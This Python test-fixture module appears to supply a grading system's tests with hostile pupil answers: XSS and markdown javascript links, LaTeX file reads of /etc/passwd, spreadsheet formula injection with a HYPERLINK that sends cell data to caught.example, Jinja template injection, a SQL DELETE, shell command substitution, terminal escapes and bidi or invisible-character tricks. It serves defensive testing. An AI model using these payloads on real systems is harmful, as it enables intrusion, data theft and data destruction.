"""Text that tries to be more than text: to a browser, a terminal, a spreadsheet, a template or a reader."""

from __future__ import annotations

from hostile_corpus.base import Case, answering, sends

HOOK = "window.hostile=1"
"""What a payload does when it runs; the browser's test looks for it."""

HTML = {
    "script": f"<script>{HOOK}</script>",
    "script-split": f"<scr<script>ipt>{HOOK}</scr</script>ipt>",
    "script-from-elsewhere": "<script src='http://caught.example/a.js'></script>",
    "image": f"<img src=x onerror='{HOOK}'>",
    "image-elsewhere": "<img src='http://caught.example/seen.png'>",
    "svg": f"<svg onload='{HOOK}'><script>{HOOK}</script></svg>",
    "math": f"<math><mtext></table><img src=x onerror='{HOOK}'></math>",
    "frame": "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>",
    "out-of-an-attribute": f'" onmouseover="{HOOK}" autofocus onfocus="{HOOK}" x="',
    "out-of-a-quote": f"</blockquote></section></main><script>{HOOK}</script>",
    "out-of-style": f"</style><script>{HOOK}</script>",
    "out-of-a-title": f"</title></textarea></script><script>{HOOK}</script>",
    "comment": "<!-- the page ends here",
    "cdata": f"<![CDATA[<script>{HOOK}</script>]]>",
    "style": "<style>*{display:none}</style>",
    "base": "<base href='http://caught.example/'><meta http-equiv=refresh content='0;url=http://caught.example/'>",
    "form": "<form action='http://caught.example/'><input name=score value=3></form>",
    "entities": f"&lt;script&gt;{HOOK}&lt;/script&gt; &#60;img src=x onerror={HOOK}&#62; &amp;amp;",
    "javascript-address": f"<a href='javascript:{HOOK}'>mark scheme</a>",
    "data-address": f"<object data='data:text/html,<script>parent.{HOOK}</script>'></object>",
    "details": f"<details open ontoggle='{HOOK}'>",
    "null-tag": f"<scr\x00ipt>{HOOK}</scr\x00ipt>",
}
MARKDOWN = {
    "link": f"[full marks](javascript:{HOOK})",
    "picture": "![seen](http://caught.example/seen.png)",
    "raw": f"**bold** <script>{HOOK}</script>\n\n    <img src=x onerror={HOOK}>",
    "fence": "```{question} weakest\nkind: choice\n- (x) mine\n```",
    "table": "| mark |\n| --- |\n| 3 |",
    "heading": "# Mark scheme\n- 3: whatever this pupil wrote",
    "reference": f"[1]: javascript:{HOOK}\n[full marks][1]",
}
LATEX = {
    "input": r"\input{/etc/passwd} $\write18{touch caught}$",
    "mathjax": rf"$$\href{{javascript:{HOOK}}}{{click}} \unicode{{x3c}}$$",
    "style": r"\(\style{position:fixed;top:0}{\text{full marks}}\)",
    "loop": r"\def\a{\a}\a $\require{html}\class{hostile}{x}$",
}
FORMULAS = {
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://caught.example/?m="&A1,"marks")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "rows": '1",,,\r\nada,two-doors,99,99',
}
TEMPLATES = {
    "jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "jinja-end": "{% endblock %}{% include '/etc/passwd' %}{# ",
    "format": "{0.__class__.__init__.__globals__} %(marks)s %s %n ${PATH}",
    "slot": 'a"0;b "outputs": [] }, { "cell_type": "code"',
    "sql": "'); DELETE FROM grade; --",
    "shell": "$(touch caught) `touch caught` ; touch caught | touch caught",
    "log": "x\n[INFO] ada 14 of 14\rcaught",
}
TERMINAL = {
    "colours": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H14 of 14",
    "title": "\x1b]0;caught\x07",
    "link": "\x1b]8;;http://caught.example\x1b\\marks\x1b]8;;\x1b\\",
    "backspaces": "0 of 14\b\b\b\b\b\b\b14 of 14",
    "carriage-return": "0 of 14\r14 of 14",
    "c1": "\x9b2Jcaught",
    "bell": "\x07" * 50,
}
DIRECTION = {
    "override": "\u202etsenoh ma I",
    "embedding": "\u202b\u202b\u202b\u202babc",
    "isolate": "\u2067\u2067\u2067abc",
    "unbalanced": "\u202c\u2069\u202c\u2069 abc",
    "trojan": "wrong \u202e\u2066right\u2069 \u2066",
    "marks": "\u200f\u200e\u061cabc",
    "arabic": "\u0645\u0631\u062d\u0628\u0627 abc",
}
INVISIBLE = {
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "tags": "ok\U000e0041\U000e0042",
    "variation": "a" + "\ufe0f" * 200,
    "soft-hyphens": "\u00ad".join("marks"),
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "stacked": "Z" + "\u0301\u0336\u0489" * 500,
    "ligature": "\ufdfd" * 200,
    "one-long-word": "W" * 7_000,
    "many-lines": "a\n" * 3_900,
    "many-paragraphs": "a\n\n" * 2_600,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 100,
}
NOTHING_TO_SEE = {
    "only-zero-width": "\u200b\u200c\u2060\ufeff",
    "only-fillers": "\u3164\u115f\u2800\u00a0",
    "only-marks": "\u202e\u2066\u00ad\x07\x00",
}

PAYLOADS = {
    "html": HTML,
    "markdown": MARKDOWN,
    "latex": LATEX,
    "formula": FORMULAS,
    "template": TEMPLATES,
    "terminal": TERMINAL,
    "direction": DIRECTION,
    "invisible": INVISIBLE,
}


def _everywhere(text: str) -> bytes:
    """The text wherever a pupil's text may stand: in words, as an option, as a row's or setting's name."""
    short = text[:2_000]
    return answering(
        why_one=text,
        shows=short,
        both=[short, "a"],
        sort=[short],
        aim={short: short, "password": short, "speed": 4},
        triage={short: {"bad": True}, "m1": {"bad": short, "sure": short}},
        came_from={"a": short, short: "given"},
        found_key={"path": ["path", short], "endings": [short]},
    )


EVERY = [text for payloads in PAYLOADS.values() for text in payloads.values()]
TOGETHER = "\n".join(text for text in EVERY if len(text) < 400 and "<!--" not in text)
"""All the short ones in one answer, for pages that take long to open."""
_SHOWN = [f"{sort}-{name}" for sort in ("direction", "invisible") for name in PAYLOADS[sort]]
TO_READ = ("all-together", "html-comment", *_SHOWN)
"""Cases whose pages are opened in a browser: all the short ones are in the first."""

CASES = (
    Case("texts", "all-together", sends(_everywhere(TOGETHER)), "Not an answer to this question", TOGETHER),
    *(
        Case("texts", f"{sort}-{name}", sends(_everywhere(text)), "Not an answer to this question", text)
        for sort, payloads in PAYLOADS.items()
        for name, text in payloads.items()
    ),
    *(Case("texts", name, sends(answering(why_one=text))) for name, text in NOTHING_TO_SEE.items()),
)
